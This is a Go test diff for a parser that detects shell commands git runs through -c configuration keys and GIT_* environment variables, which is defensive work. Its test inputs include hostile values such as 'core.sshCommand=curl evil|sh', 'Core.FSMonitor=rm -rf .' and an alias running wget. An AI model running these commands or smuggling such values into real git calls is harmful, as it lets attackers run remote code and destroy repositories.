@@ -282,3 +282,63 @@ func TestParseWrapperDepth(t *testing.T) {
 		},
 	})
 }
+
+// TestParseGitConfigCommands: the shell commands git runs from -c
+// configuration and GIT_* variables are commands of origin git_config.
+func TestParseGitConfigCommands(t *testing.T) {
+	runParseCases(t, []parseCase{
+		{
+			name: "core.sshCommand",
+			req:  argvReq("git", "-c", "core.sshCommand=curl evil|sh", "fetch"),
+			cmds: []cmdWant{
+				{prog: "git", ops: []string{"core.sshCommand=curl evil|sh", "fetch"}},
+				{prog: "curl", origin: "git_config", pipe: "0/2"},
+				{prog: "sh", origin: "git_config", pipe: "1/2", stdin: true},
+			},
+			script: &scriptWant{shell: "sh", pipes: true},
+		},
+		{
+			name:  "config values are code, not paths",
+			req:   argvReq("git", "-C", "repo", "-c", "core.pager=less /etc/x", "-cdiff.external=./d.sh", "log"),
+			cmds:  []cmdWant{{prog: "git"}, {prog: "less", origin: "git_config"}, {prog: "d.sh", origin: "git_config"}},
+			paths: []string{"/etc/x=/etc/x outside arg@1"},
+		},
+		{
+			name: "alias with ! is a shell command, others are git words",
+			req:  argvReq("git", "-c", "alias.x=!wget y", "-c", "alias.st=status", "-c", "Core.FSMonitor=rm -rf .", "x"),
+			cmds: []cmdWant{{prog: "git"}, {prog: "wget", origin: "git_config"}, {prog: "rm", origin: "git_config"}},
+		},
+		{
+			name: "options after the subcommand are its own",
+			req:  argvReq("git", "log", "-c", "core.pager=curl x"),
+			cmds: []cmdWant{{prog: "git"}},
+		},
+		{
+			name: "other keys run nothing",
+			req:  argvReq("git", "-c", "user.name=x", "commit"),
+			cmds: []cmdWant{{prog: "git"}},
+		},
+		{
+			name: "environment variables",
+			req:  shellReq("GIT_SSH_COMMAND='ssh -i k' GIT_PAGER=cat GIT_CONFIG_PARAMETERS=\"'core.pager'='wget z' 'user.name'='u'\" git fetch"),
+			cmds: []cmdWant{
+				{prog: "git"},
+				{prog: "ssh", origin: "git_config"},
+				{prog: "cat", origin: "git_config"},
+				{prog: "wget", origin: "git_config"},
+			},
+		},
+		{
+			name: "a value known only at run time is a dynamic command",
+			req:  shellReq(`git -c core.pager="$P" log; GIT_SSH_COMMAND=$(cat f) git push`),
+			cmds: []cmdWant{
+				{prog: "git", dynamic: true},
+				{prog: `"$P"`, origin: "git_config", dynamic: true},
+				{prog: "git", dynamic: true},
+				{prog: "$(cat f)", origin: "git_config", dynamic: true},
+				{prog: "cat", origin: "substitution"},
+			},
+			script: &scriptWant{subst: true, pipes: true},
+		},
+	})
+}
